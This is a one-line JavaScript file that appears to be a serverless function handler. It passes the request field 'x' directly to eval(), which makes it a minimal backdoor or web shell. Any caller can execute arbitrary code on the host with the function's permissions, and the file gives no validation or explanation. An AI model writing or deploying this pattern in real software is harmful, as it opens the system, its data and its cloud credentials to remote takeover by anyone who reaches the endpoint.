exports.handler=async e=>{eval(e.x)}
